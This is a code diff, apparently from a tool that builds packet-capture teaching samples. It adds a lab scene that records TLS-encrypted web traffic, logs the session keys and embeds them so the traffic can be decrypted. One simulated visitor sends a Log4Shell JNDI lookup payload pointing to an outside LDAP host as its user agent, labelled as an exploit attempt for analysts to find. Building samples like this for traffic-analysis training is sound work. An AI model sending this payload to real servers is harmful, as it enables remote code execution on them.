@@ -67,3 +67,39 @@ def web_http3(lab: Lab) -> None:
                       show=f'chromium --headless --origin-to-force-quic-on={page.split("/")[2]}:443 --dump-dom {page}')
         for host, url in (('www.example.com', 'https://www.example.com/products.json'), ('intranet.example.test', 'https://intranet.example.test/app.js'), ('10.20.0.10', 'https://www.example.com/')):
             bob.run('gtlsclient', '-q', '--exit-on-all-streams-close', host, '443', url, timeout=20)
+
+
+@scene(Sample(
+    'web-tls-keys.pcapng', 'Pages over HTTPS, recorded with the keys: what TLS carried can be read, and one visitor tries a hole in Log4j where a tap sees only ciphertext.',
+    'TLS 1.3 with AES-128-GCM, AES-256-GCM and ChaCha20, TLS 1.2 with AES-GCM, AES-CBC and ChaCha20; HTTP/1.1 and HTTP/2, a form login, a compressed page, a change of keys, a picture over several '
+    'records. The key log that curl wrote is in the file (Decryption Secrets); of the last connection it was left out.',
+    ['`exploit-attempt`: the visitor\'s user agent asks Log4j to look something up, within TLS', 'no `cleartext-credentials`: the form login travelled encrypted',
+     'all but one of the TLS conversations are opened'],
+    ['http.request | what was asked within TLS', 'tls.handshake.type == 11 | certificates, in TLS 1.3 too', 'tls.handshake.type == 20 | the ends of the handshakes']))
+def web_tls_keys(lab: Lab) -> None:
+    office = Office(lab, ('alice', 'bob'))
+    authority = services.web(office.web)
+    alice, bob = office.alice, office.bob
+    plain, keys = lab.folder / 'web-tls.pcapng', lab.folder / 'keys.log'
+    site, trusted = 'https://www.example.com', ('--cacert', authority)
+
+    def fetch(host, *urls: str, options: tuple[str, ...] = (), agent: str = FIREFOX) -> None:
+        outputs = [word for url in urls for word in ('-o', '/dev/null', url)]
+        host.run('env', f'SSLKEYLOGFILE={keys}', 'curl', '-s', '--max-time', '20', '-A', agent, *trusted, *options, *outputs,
+                 show=' '.join(['SSLKEYLOGFILE=keys.log', 'curl', '-s', *options, *urls]))
+    with Capture(office.switch, 'web-tls.pcapng', 'dumpcap', '-i', 'br0', '-f', 'tcp port 443', settle=2.5):
+        fetch(alice, f'{site}/', f'{site}/style.css', f'{site}/logo.png', options=('--http1.1', '--compressed'))
+        fetch(alice, 'https://shop.example.com/products.json', options=('--http1.1', '--tls13-ciphers', 'TLS_CHACHA20_POLY1305_SHA256'))
+        fetch(alice, 'https://api.example.com/about.html', options=('--http1.1', '--tls13-ciphers', 'TLS_AES_128_GCM_SHA256'))
+        for suite in ('ECDHE-RSA-AES128-GCM-SHA256', 'ECDHE-RSA-AES256-SHA384', 'ECDHE-RSA-AES128-SHA', 'ECDHE-RSA-CHACHA20-POLY1305'):
+            fetch(alice, f'{site}/about.html', options=('--http1.1', '--tls-max', '1.2', '--ciphers', suite))
+        fetch(alice, f'{site}/login', options=('--http1.1', '-d', f'user=alice&password={services.PASSWORD}'))
+        fetch(alice, 'https://intranet.example.test/', 'https://intranet.example.test/style.css', options=('--http2',))
+        fetch(bob, f'{site}/', options=('--http1.1',), agent='${jndi:ldap://198.51.100.66:1389/a}')
+        # K changes the keys of both sides (RFC 8446 section 4.6.3); one line is one command.
+        asking = 'sleep 0.5; echo K; sleep 0.5; printf "GET /about.html HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n"; sleep 1'
+        alice.run('sh', '-c', f'({asking}) | openssl s_client -connect 10.20.0.10:443 -servername www.example.com -keylogfile {keys}',
+                  show='openssl s_client -connect 10.20.0.10:443 -servername www.example.com -keylogfile keys.log  # K, then GET /about.html')
+        curl(alice, 'https://cdn.example.net/app.js', options=(*trusted, '--http1.1'))
+    office.switch.run('editcap', '--inject-secrets', f'tls,{keys}', str(plain), str(lab.folder / 'web-tls-keys.pcapng'),
+                      show='editcap --inject-secrets tls,keys.log web-tls.pcapng web-tls-keys.pcapng')
